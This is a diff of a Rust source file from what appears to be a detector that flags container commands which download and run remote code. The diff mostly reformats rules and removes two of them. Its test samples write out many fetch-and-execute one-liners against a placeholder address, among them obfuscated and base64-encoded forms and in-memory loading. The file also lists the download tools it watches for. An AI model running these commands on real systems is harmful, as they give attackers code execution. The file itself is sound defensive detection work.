@@ -1,10 +1,10 @@
 //! Programs and scripts that come over the network.
 
-use super::url::{Reach, is_dotted, target};
-use super::words::{cluster, has, only_prints, operands, option, words};
+use super::places::is_temporary;
+use super::words::{cluster, has, operands, option, words};
 use super::{COMMAND, Facts, Rule, Sample, Severity, each_match};
 use crate::detect::findings::Collector;
-use crate::detect::{code, code_strings, derive};
+use crate::detect::{code, derive};
 use crate::normalize::exec::is_shell;
 use crate::normalize::{Execution, Invocation, RedirectOp};
 
@@ -19,25 +19,75 @@ pub(super) static RULES: &[Rule] = &[
         techniques: &["T1105", "T1059.004"],
         check: |facts, found| runs_input_of(facts, found, &|call| is_downloader(call) && prints(call)),
         samples: &[
-            Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'curl -fsSL http://192.0.2.10/s | sh']}]"),
-            Sample::Hit(45, "containers: [{name: a, args: [/bin/sh, -c, 'wget -q -O - http://192.0.2.10/s | sudo bash -s -- -y']}]"),
-            Sample::Hit(45, "containers: [{name: a, command: [bash, -c, 'bash <(curl -s http://192.0.2.10/s)']}]"),
-            Sample::Hit(45, "containers: [{name: a, command: [bash, -c, 'source <(curl -s http://192.0.2.10/s)']}]"),
-            Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'eval \"$(wget -qO- http://192.0.2.10/s)\"']}]"),
-            Sample::Hit(45, "containers: [{name: a, command: [sh, -c, '(curl -s u || wget -qO- u || aria2c u) | sh']}]"),
-            Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'cu\"\"rl${IFS}http://192.0.2.10/s|s\"\"h']}]"),
-            Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'X=$(curl -s http://192.0.2.10/s); sh -c \"$X\"']}]"),
-            Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'python3 -c \"$(curl -s http://192.0.2.10/s)\"']}]"),
-            Sample::Hit(45, "containers: [{name: a, command: [python3, -c, 'import os; os.system(\"curl http://192.0.2.10/s | sh\")']}]"),
-            Sample::Hit(45, "containers: [{name: a, livenessProbe: {exec: {command: [sh, -c, 'curl -s http://192.0.2.10/s | sh']}}}]"),
-            Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'echo Y3VybCB4fHNo | base64 -d | sh']}]"),
-            Sample::Miss("containers: [{name: a, command: [sh, -c, 'curl -s http://svc/health | jq .status']}]"),
-            Sample::Miss("containers: [{name: a, command: [sh, -c, 'curl -s http://svc/list | python3 -c \"import json\"']}]"),
-            Sample::Miss("containers: [{name: a, command: [sh, -c, 'curl -s http://svc/ids | while read id; do bash -c \"process $id\"; done']}]"),
-            Sample::Miss("containers: [{name: a, command: [sh, -c, 'V=$(curl -s http://svc/v); sh -c \"deploy $V\"']}]"),
-            Sample::Miss("containers: [{name: a, command: [sh, -c, 'until $(curl --output /dev/null -sf --head https://svc); do sleep 1; done']}]"),
-            Sample::Miss("containers: [{name: a, command: [sh, -c, 'eval $(ssh-agent -s) && curl -s http://svc']}]"),
-            Sample::Miss("containers: [{name: a, command: [sh, -c, 'curl -so /x http://svc/x; echo done | sh']}]"),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl -fsSL http://192.0.2.10/s | sh']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, args: [/bin/sh, -c, 'wget -q -O - http://192.0.2.10/s | sudo bash -s -- -y']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [bash, -c, 'bash <(curl -s http://192.0.2.10/s)']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [bash, -c, 'source <(curl -s http://192.0.2.10/s)']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'eval \"$(wget -qO- http://192.0.2.10/s)\"']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, '(curl -s u || wget -qO- u || aria2c u) | sh']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'cu\"\"rl${IFS}http://192.0.2.10/s|s\"\"h']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'X=$(curl -s http://192.0.2.10/s); sh -c \"$X\"']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'python3 -c \"$(curl -s http://192.0.2.10/s)\"']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [python3, -c, 'import os; os.system(\"curl http://192.0.2.10/s | sh\")']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, livenessProbe: {exec: {command: [sh, -c, 'curl -s http://192.0.2.10/s | sh']}}}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'echo Y3VybCB4fHNo | base64 -d | sh']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -s http://svc/health | jq .status']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -s http://svc/list | python3 -c \"import json\"']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -s http://svc/ids | while read id; do bash -c \"process $id\"; done']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'V=$(curl -s http://svc/v); sh -c \"deploy $V\"']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'until $(curl --output /dev/null -sf --head https://svc); do sleep 1; done']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'eval $(ssh-agent -s) && curl -s http://svc']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -so /x http://svc/x; echo done | sh']}]",
+            ),
             Sample::Miss("containers: [{name: a, command: [/app/digest, 'curl http://x/s | sh']}]"),
         ],
         ..COMMAND
@@ -52,28 +102,60 @@ pub(super) static RULES: &[Rule] = &[
         techniques: &["T1105"],
         check: |facts, found| {
             for run in &facts.runs {
-                let code = run.invocations().find(|(_, call)| code::text(call).is_some_and(code::runs_fetched));
+                let code =
+                    run.invocations().find(|(_, call)| code::text(call).is_some_and(code::runs_fetched));
                 if let Some((at, _)) = code {
                     found.hit(Some(&run.container.name), run.path(), &run.show(at));
                 } else if let Some((at, verified)) = runs_written_file(&run.execution, &is_downloader) {
-                    let (severity, points) = if verified { (Severity::Medium, 30) } else { (Severity::High, 45) };
+                    let (severity, points) =
+                        if verified { (Severity::Medium, 30) } else { (Severity::High, 45) };
                     found.hit_as(severity, points, Some(&run.container.name), run.path(), &run.show(at));
                 }
             }
         },
         samples: &[
-            Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'curl -o /tmp/m http://192.0.2.10/m && chmod +x /tmp/m && /tmp/m']}]"),
-            Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'cd /tmp; wget http://192.0.2.10/m; chmod 755 m; ./m --go']}]"),
-            Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'wget -P /dev/shm http://192.0.2.10/m; chmod 700 /dev/shm/m; nohup /dev/shm/m &']}]"),
-            Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'curl http://192.0.2.10/s > /tmp/s; sh /tmp/s']}]"),
-            Sample::Hit(45, "containers: [{name: a, command: [python3, -c, 'import urllib.request as u; exec(u.urlopen(\"http://192.0.2.10/s\").read())']}]"),
-            Sample::Hit(45, "containers: [{name: a, command: [python3, -c, 'import os,requests;f=os.memfd_create(\"\");os.write(f,requests.get(\"http://192.0.2.10/m\").content)']}]"),
-            Sample::Hit(30, "containers: [{name: a, command: [sh, -c, 'curl -o t https://x.test/t && echo \"00 t\" | sha256sum -c && chmod +x t && ./t']}]"),
-            Sample::Hit(30, "containers: [{name: a, command: [sh, -c, 'wget -O - http://192.0.2.10/x.tgz | tar xz -C /tmp; /tmp/x/run']}]"),
-            Sample::Miss("containers: [{name: a, command: [sh, -c, 'curl -sL https://x.example.test/helm.tgz | tar xz; mv linux/helm /usr/local/bin/; helm version']}]"),
-            Sample::Miss("containers: [{name: a, command: [sh, -c, 'curl -o /data/feed.json http://svc/feed && /app/import /data/feed.json']}]"),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl -o /tmp/m http://192.0.2.10/m && chmod +x /tmp/m && /tmp/m']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'cd /tmp; wget http://192.0.2.10/m; chmod 755 m; ./m --go']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'wget -P /dev/shm http://192.0.2.10/m; chmod 700 /dev/shm/m; nohup /dev/shm/m &']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl http://192.0.2.10/s > /tmp/s; sh /tmp/s']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [python3, -c, 'import urllib.request as u; exec(u.urlopen(\"http://192.0.2.10/s\").read())']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [python3, -c, 'import os,requests;f=os.memfd_create(\"\");os.write(f,requests.get(\"http://192.0.2.10/m\").content)']}]",
+            ),
+            Sample::Hit(
+                30,
+                "containers: [{name: a, command: [sh, -c, 'curl -o t https://x.test/t && echo \"00 t\" | sha256sum -c && chmod +x t && ./t']}]",
+            ),
+            Sample::Hit(
+                30,
+                "containers: [{name: a, command: [sh, -c, 'wget -O - http://192.0.2.10/x.tgz | tar xz -C /tmp; /tmp/x/run']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -sL https://x.example.test/helm.tgz | tar xz; mv linux/helm /usr/local/bin/; helm version']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -o /data/feed.json http://svc/feed && /app/import /data/feed.json']}]",
+            ),
             Sample::Miss("containers: [{name: a, command: [sh, -c, 'chmod +x /app/run && /app/run']}]"),
-            Sample::Miss("containers: [{name: a, command: [python3, -c, 'import requests; print(requests.get(\"http://svc/x\").json())']}]"),
+            Sample::Miss(
+                "containers: [{name: a, command: [python3, -c, 'import requests; print(requests.get(\"http://svc/x\").json())']}]",
+            ),
         ],
         ..COMMAND
     },
@@ -92,68 +174,51 @@ pub(super) static RULES: &[Rule] = &[
         ],
         ..COMMAND
     },
-    Rule {
-        id: "cmd-suspicious-url",
-        message: "names a host without a name, or one where things are left anonymously",
-        meaning: "A public address instead of a name, a paste or file drop, a request catcher or a tunnel: the usual \
-                  places to fetch a payload from, and to send loot to.",
-        false_positives: "Services that have no name yet, tests of web hooks.",
-        severity: Severity::Low,
-        points: 10,
-        techniques: &["T1102", "T1105"],
-        check: |facts, found| each_match(facts, found, |_, _, invocation| names_odd_host(invocation)),
-        samples: &[
-            Sample::Hit(10, "containers: [{name: a, command: [curl, 'http://203.0.113.5/x']}]"),
-            Sample::Hit(10, "containers: [{name: a, command: [wget, 'https://transfer.sh/abc/x']}]"),
-            Sample::Hit(10, "containers: [{name: a, command: [git, clone, 'http://203.0.113.5/r.git']}]"),
-            Sample::Miss("containers: [{name: a, command: [curl, 'http://10.0.0.5:9090/-/ready']}]"),
-            Sample::Miss("containers: [{name: a, command: [curl, 'https://api.example.test/v1']}]"),
-            Sample::Miss("containers: [{name: a, command: [echo, 'http://203.0.113.5/x']}]"),
-        ],
-        ..COMMAND
-    },
-    Rule {
-        id: "cmd-temp-path-exec",
-        message: "runs a program from a directory for temporary files",
-        meaning: "What lies there was put there at run time, not by the image.",
-        false_positives: "Scripts that build or unpack their tools first.",
-        severity: Severity::Low,
-        points: 10,
-        techniques: &["T1059", "T1036.005"],
-        check: |facts, found| each_match(facts, found, |_, _, invocation| runs_temporary(invocation)),
-        samples: &[
-            Sample::Hit(10, "containers: [{name: a, command: [/tmp/x]}]"),
-            Sample::Hit(10, "containers: [{name: a, command: [sh, -c, 'nohup /dev/shm/.x/run &']}]"),
-            Sample::Hit(10, "containers: [{name: a, command: [bash, /var/tmp/s.sh]}]"),
-            Sample::Miss("containers: [{name: a, command: [/app/run, /tmp/input]}]"),
-            Sample::Miss("containers: [{name: a, command: [tar, xf, /tmp/a.tar]}]"),
-        ],
-        ..COMMAND
-    },
 ];
 
 /// Command-line tools that fetch.
 pub(super) fn is_downloader(invocation: &Invocation) -> bool {
     matches!(
         invocation.program.as_str(),
-        "curl" | "wget" | "wget2" | "aria2c" | "axel" | "fetch" | "lwp-download" | "lwp-request" | "GET" | "lynx" | "ftpget" | "tftp"
-            | "http" | "https" | "xh"
+        "curl"
+            | "wget"
+            | "wget2"
+            | "aria2c"
+            | "axel"
+            | "fetch"
+            | "lwp-download"
+            | "lwp-request"
+            | "GET"
+            | "lynx"
+            | "ftpget"
+            | "tftp"
+            | "http"
+            | "https"
+            | "xh"
     )
 }
 
 /// Whether what is fetched comes out on standard output. `until $(curl -o /dev/null --head …)` is an idiom.
 fn prints(invocation: &Invocation) -> bool {
-    let only_head = words(invocation).any(|word| word == "--head" || cluster(word).is_some_and(|flags| flags.contains('I')));
+    let only_head = words(invocation)
+        .any(|word| word == "--head" || cluster(word).is_some_and(|flags| flags.contains('I')));
     let to_file = |file: &str| !matches!(file, "-" | "/dev/stdout");
-    let named = option(invocation, &["-o", "--output", "-O", "--output-document"]).filter(|_| invocation.program != "curl" || !has(invocation, &["-O"]));
+    let named = option(invocation, &["-o", "--output", "-O", "--output-document"])
+        .filter(|_| invocation.program != "curl" || !has(invocation, &["-O"]));
     !only_head && !named.is_some_and(to_file)
 }
 
 /// Hits for everything that runs the output of a source.
-pub(super) fn runs_input_of(facts: &Facts<'_>, found: &mut Collector<'_>, is_source: &impl Fn(&Invocation) -> bool) {
+pub(super) fn runs_input_of(
+    facts: &Facts<'_>,
+    found: &mut Collector<'_>,
+    is_source: &impl Fn(&Invocation) -> bool,
+) {
     for run in &facts.runs {
         let fed = run.fed(is_source);
-        let sink = run.invocations().find(|(at, invocation)| fed.get(*at) == Some(&true) && runs_its_input(invocation));
+        let sink = run
+            .invocations()
+            .find(|(at, invocation)| fed.get(*at) == Some(&true) && runs_its_input(invocation));
         if let Some((at, _)) = sink {
             found.hit(Some(&run.container.name), run.path(), &run.show_flow(at, is_source));
         }
@@ -165,13 +230,15 @@ pub(super) fn runs_input_of(facts: &Facts<'_>, found: &mut Collector<'_>, is_sou
 fn runs_its_input(invocation: &Invocation) -> bool {
     let program = invocation.program.as_str();
     // Text that begins with what was substituted: `sh -c "$(curl …)"`, and not `sh -c "deploy $V"`.
-    let begins = |text: &str| text.trim_start().starts_with("$") || text.trim_start().starts_with("`");
+    let begins = |text: &str| text.trim_start().starts_with(['$', '`']);
     let operand = invocation.args.iter().find(|word| !word.text.starts_with('-'));
     match program {
         // Output that is known beforehand stands there already, marked as disguised.
         "eval" => return operand.is_some_and(|word| begins(&word.text) || word.disguised),
         "source" | "." => {
-            return operand.is_some_and(|word| word.text.starts_with("<(") || matches!(word.text.as_str(), "/dev/stdin" | "-"));
+            return operand.is_some_and(|word| {
+                word.text.starts_with("<(") || matches!(word.text.as_str(), "/dev/stdin" | "-")
+            });
         }
         // A program whose name came from there.
         "$()" => return invocation.args.is_empty(),
@@ -181,19 +248,31 @@ fn runs_its_input(invocation: &Invocation) -> bool {
     // A process substitution or standard input by name is no script of its own.
     let from_input = operand.is_none_or(|word| word.text.starts_with("<(") || is_stdin(&word.text));
     // `sh -s -- ARGUMENTS` reads its input, whatever operands follow.
-    let reads = words(invocation).any(|word| word == "-" || cluster(word).is_some_and(|flags| flags.ends_with('s')));
+    let reads =
+        words(invocation).any(|word| word == "-" || cluster(word).is_some_and(|flags| flags.ends_with('s')));
     if is_shell(program) {
         let inline = words(invocation).any(|word| cluster(word).is_some_and(|flags| flags.contains('c')));
-        return if inline { operand.is_some_and(|word| begins(&word.text) || word.disguised) } else { from_input || reads };
+        return if inline {
+            operand.is_some_and(|word| begins(&word.text) || word.disguised)
+        } else {
+            from_input || reads
+        };
     }
     match code::inline(invocation) {
         Some(code) => begins(code),
-        None => code::reads_stdin(invocation) || code::language(program).is_some_and(|l| l != code::Language::Awk) && operand.is_some_and(|word| word.text.starts_with("<(")),
+        None => {
+            code::reads_stdin(invocation)
+                || code::language(program).is_some_and(|l| l != code::Language::Awk)
+                    && operand.is_some_and(|word| word.text.starts_with("<("))
+        }
     }
 }
 
 /// The first invocation that runs a file which a source wrote, and whether a checksum was verified in between.
-pub(super) fn runs_written_file(execution: &Execution, is_source: &impl Fn(&Invocation) -> bool) -> Option<(usize, bool)> {
+pub(super) fn runs_written_file(
+    execution: &Execution,
+    is_source: &impl Fn(&Invocation) -> bool,
+) -> Option<(usize, bool)> {
     let mut files: Vec<&str> = Vec::new();
     let mut fetched = false;
     let (mut verified, mut unpacked) = (false, false);
@@ -285,56 +364,29 @@ fn written_files(invocation: &Invocation) -> Vec<&str> {
         .redirects
         .iter()
         .filter(|redirect| matches!(redirect.op, RedirectOp::Out | RedirectOp::Append | RedirectOp::Clobber));
-    files.extend(redirects.filter(|redirect| redirect.fd.unwrap_or(1) == 1).map(|redirect| redirect.target.text.as_str()));
+    files.extend(
+        redirects
+            .filter(|redirect| redirect.fd.unwrap_or(1) == 1)
+            .map(|redirect| redirect.target.text.as_str()),
+    );
     // wget FILE-URL and curl -O name the file after the URL.
     let by_url = is_downloader(invocation)
-        && (!is_curl || all.iter().any(|word| *word == "--remote-name" || cluster(word).is_some_and(|flags| flags.contains('O'))));
+        && (!is_curl
+            || all.iter().any(|word| {
+                *word == "--remote-name" || cluster(word).is_some_and(|flags| flags.contains('O'))
+            }));
     if files.is_empty() && by_url {
-        files.extend(all.iter().filter(|word| word.contains("://") || word.contains('.') && word.contains('/')).filter_map(|url| {
-            let path = url.split(['?', '#']).next().unwrap_or(url);
-            path.rsplit('/').next().filter(|name| !name.is_empty())
-        }));
+        files.extend(
+            all.iter()
+                .filter(|word| word.contains("://") || word.contains('.') && word.contains('/'))
+                .filter_map(|url| {
+                    let path = url.split(['?', '#']).next().unwrap_or(url);
+                    path.rsplit('/').next().filter(|name| !name.is_empty())
+                }),
+        );
     }
     files.retain(|file| !matches!(*file, "-" | "" | "/dev/null" | "/dev/stdout" | "/dev/stderr"));
     files
-}
-
-/// Whether a network tool names a public address or a drop.
-fn names_odd_host(invocation: &Invocation) -> bool {
-    if only_prints(&invocation.program) {
-        return false;
-    }
-    if is_shell(&invocation.program) {
-        // Its script has commands of its own.
-        return false;
-    }
-    let odd = |word: &str| {
-        !word.contains(char::is_whitespace) && target(word).is_some_and(|target| match target.reach() {
-            Reach::Drop => true,
-            Reach::Address => is_dotted(target.host) || word.contains("://"),
-            _ => false,
-        })
-    };
-    let is_net = is_downloader(invocation) || super::shells::is_netcat(&invocation.program);
-    let in_code = || code::text(invocation).is_some_and(|code| code.contains("://") && code_strings::literals(code).iter().any(|text| text.contains("://") && odd(text)));
-    in_code() || words(invocation).any(|word| (word.contains("://") || is_net && is_dotted_word(word)) && odd(word))
-        || invocation.redirects.iter().any(|redirect| redirect.target.text.strip_prefix("/dev/tcp/").is_some_and(odd))
-}
-
-fn is_dotted_word(word: &str) -> bool {
-    target(word).is_some_and(|target| is_dotted(target.host))
-}
-
-const TEMPORARY: [&str; 4] = ["/tmp/", "/var/tmp/", "/dev/shm/", "/dev/mqueue/"];
-
-fn is_temporary(path: &str) -> bool {
-    TEMPORARY.iter().any(|directory| path.starts_with(directory))
-}
-
-fn runs_temporary(invocation: &Invocation) -> bool {
-    let takes_script = is_shell(&invocation.program) || code::language(&invocation.program).is_some();
-    is_temporary(&invocation.path)
-        || takes_script && code::text(invocation).is_none() && operands(invocation).next().is_some_and(is_temporary)
 }
 
 /// Whether something decodes, for the rules about hidden text.
